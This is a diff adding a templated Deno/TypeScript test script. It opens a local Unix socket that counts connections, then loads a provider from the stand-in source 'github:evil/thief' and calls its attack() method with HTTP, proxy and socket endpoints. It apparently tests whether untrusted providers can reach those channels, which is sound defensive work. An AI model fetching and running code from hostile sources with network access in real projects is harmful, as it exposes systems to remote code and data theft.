@@ -1,0 +1,10 @@
+import { createServer } from 'node:net';
+import { getProvider } from 'prizm';
+const socket = '{{root}}/tmp/s';
+let connections = 0;
+const server = createServer(() => connections++);
+await new Promise<void>((resolve) => server.listen(socket, resolve));
+const provider: any = await getProvider('github:evil/thief');
+for (const line of await provider.attack({ http: '{{http}}', proxy: '{{proxy}}', socket })) console.log(line);
+console.log('connections:', connections);
+Deno.exit(0);
